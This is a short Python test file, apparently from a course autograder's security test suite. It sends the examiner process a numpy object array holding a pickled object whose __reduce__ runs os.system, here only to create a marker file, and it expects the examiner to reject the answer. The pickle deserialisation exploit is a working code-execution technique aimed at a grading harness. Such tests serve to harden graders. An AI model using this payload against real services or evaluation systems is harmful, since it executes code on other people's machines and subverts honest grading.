# attack: answers with an array of pickled objects, which run a command when they are read
# expected: describe 0 of 3, first_axis 1 of 1
# says: bad answer
import course
import io
import os
import socket

import numpy as np

from course.checking.wire import frames as wire


class Command:
    def __reduce__(self):
        return os.system, ("touch /tmp/workbook-escape-pickle",)


def check(exercise_id, answer):
    with socket.socket(socket.AF_UNIX) as examiner:
        examiner.connect(os.environ["WORKBOOK_EXAMINER"])
        wire.send(examiner, {"hello": exercise_id})
        while True:
            wire.receive(examiner, seconds=10)
            file = io.BytesIO()
            np.save(file, np.array([Command()], dtype=object), allow_pickle=True)
            text = '{"buffers": [%d], "value": {"dict": [["value", {"array": 0}]]}}' % len(file.getvalue())
            examiner.sendall(len(text).to_bytes(4, "big") + text.encode() + file.getvalue())


describe = None
course.check = check
